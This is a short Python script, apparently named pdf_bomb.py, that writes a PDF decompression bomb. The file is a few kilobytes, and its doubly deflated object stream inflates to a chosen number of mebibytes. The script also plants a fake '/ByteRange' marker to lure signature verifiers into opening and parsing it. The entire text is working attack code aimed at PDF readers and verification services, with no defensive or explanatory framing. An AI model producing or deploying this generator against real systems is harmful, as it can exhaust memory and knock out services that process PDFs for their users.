"""pdf_bomb.py FILE MEBIBYTES: a PDF of a few kilobytes whose object stream, deflated twice, inflates to so much."""
import pathlib
import sys
import zlib


def deflated(head, mebibytes):
    packer = zlib.compressobj(6)
    packed = packer.compress(head)
    for _ in range(mebibytes):
        packed += packer.compress(b" " * 1024 * 1024)
    return zlib.compress(packed + packer.flush(), 9)


catalog = b"<< /Type /Catalog /Pages 3 0 R /AcroForm 2 0 R >> "
table = b"1 0 2 %d " % len(catalog)
stream = deflated(table + catalog + b"<< /Fields [] >>", int(sys.argv[2]))
# What a verifier looks for before it opens the file.
pdf = b"%PDF-1.5\n% /ByteRange\n"
offsets = {}
for number, body in {
    3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>",
    5: b"<< /Type /ObjStm /N 2 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%b\nendstream"
    % (len(table), len(stream), stream),
}.items():
    offsets[number] = len(pdf)
    pdf += b"%d 0 obj\n%b\nendobj\n" % (number, body)
offsets[6] = len(pdf)
rows = [(0, 0, 255), (2, 5, 0), (2, 5, 1)] + [(1, offsets[number], 0) for number in range(3, 7)]
cross = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
pdf += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (
    len(cross), cross)
pdf += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
pathlib.Path(sys.argv[1]).write_bytes(pdf)
